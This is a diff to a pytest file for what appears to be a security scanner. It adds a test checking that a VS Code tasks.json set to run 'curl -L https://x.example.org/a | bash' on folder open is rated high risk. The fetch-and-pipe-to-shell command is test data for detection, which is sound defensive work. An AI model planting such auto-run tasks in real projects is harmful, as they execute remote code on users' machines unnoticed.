@@ -1,5 +1,7 @@
 """Forms of build files that read alike and mean different things: who runs a text, in which shell, and where it stands."""
 
+import json
+
 import pytest
 
 from flycatcher.commands.scan.engine import scan_bytes
@@ -209,3 +211,12 @@ def test_looking_for_jobs_takes_steps_in_proportion_to_the_text(line: str) -> No
     # a hostile file repeats what the expressions begin with; were one of them quadratic, this would take hours
     text = line * (400_000 // len(line)) + "  script: python3 -c 1\n"
     assert scan_bytes("x.yml", text.encode()).file_type in ("", "gitlab-ci-include")
+
+
+@pytest.mark.parametrize("command", ["curl -L https://x.example.org/a | bash", "curl -L https://x.example.org/a | cmd"])
+@pytest.mark.parametrize(("opens", "level"), [(True, "high"), (False, "medium")])
+def test_what_opening_a_folder_starts_weighs_more(command: str, level: str, *, opens: bool) -> None:
+    run = {"runOptions": {"runOn": "folderOpen"}} if opens else {}
+    text = json.dumps({"tasks": [{"label": "a", "type": "shell", "command": command, **run}]})
+    levels = [each.detection.risk.level for each in scan_bytes(".vscode/tasks.json", text.encode()).findings]
+    assert levels == [level] if opens or "bash" in command else levels == []
